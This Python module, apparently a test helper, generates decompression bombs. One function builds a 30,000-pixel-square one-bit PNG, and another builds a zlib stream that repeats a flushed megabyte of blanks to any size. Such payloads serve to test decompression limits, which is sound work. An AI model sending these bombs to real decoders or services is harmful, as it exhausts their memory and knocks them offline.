"""What is small as a file and larger than any memory once it is unpacked."""

import struct
import zlib
from functools import cache

SIDE = 30_000
"""Pixels."""


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


@cache
def bomb() -> bytes:
    """Give a whole PNG of one bit a pixel, all black."""
    packer = zlib.compressobj(level=1)
    row = bytes(1 + SIDE // 8)
    rows = b"".join(packer.compress(row) for _ in range(SIDE)) + packer.flush()
    head = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    parts = _chunk(b"IHDR", head), _chunk(b"IDAT", rows), _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def unfolding(head: bytes, megabytes: int) -> bytes:
    """Give bytes with so many megabytes of blanks after them, as zlib packs them."""
    packer, blanks = zlib.compressobj(9, wbits=-zlib.MAX_WBITS), b" " * (1 << 20)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    # Behind a full flush nothing rests on what was before: the same megabyte may come ever again.
    piece = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(head)
    for _ in range(megabytes):
        check = zlib.adler32(blanks, check)
    return b"\x78\xda" + first + piece * megabytes + packer.flush() + check.to_bytes(4, "big")
